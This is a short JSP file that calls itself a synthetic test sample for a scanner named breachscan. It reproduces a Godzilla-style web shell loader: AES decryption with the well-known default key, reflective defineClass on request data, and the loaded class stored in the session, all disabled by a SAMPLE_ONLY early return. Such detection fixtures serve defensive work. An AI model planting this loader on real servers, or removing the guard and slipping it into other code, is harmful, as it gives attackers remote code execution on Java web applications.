<%-- synthetic test sample for breachscan: Godzilla-style loader (reflective defineClass on
     AES-decrypted request bytes, payload kept in the session). Uses the public default key
     prefix. Disabled by the SAMPLE_ONLY guard; no payload exists. --%>
<%! String xc = "3c6e0b8a9c15224a"; String pass = "pass";
    Class define(byte[] b) throws Exception {
        java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
        m.setAccessible(true);
        return (Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length);
    }
    byte[] x(byte[] s, boolean m) throws Exception {
        javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES");
        c.init(m ? 1 : 2, new javax.crypto.spec.SecretKeySpec(xc.getBytes(), "AES"));
        return c.doFinal(s);
    } %>
<%
    final boolean SAMPLE_ONLY = true;
    if (SAMPLE_ONLY) return;
    byte[] data = java.util.Base64.getDecoder().decode(request.getParameter(pass));
    if (session.getAttribute("payload") == null) session.setAttribute("payload", define(x(data, false)));
%>
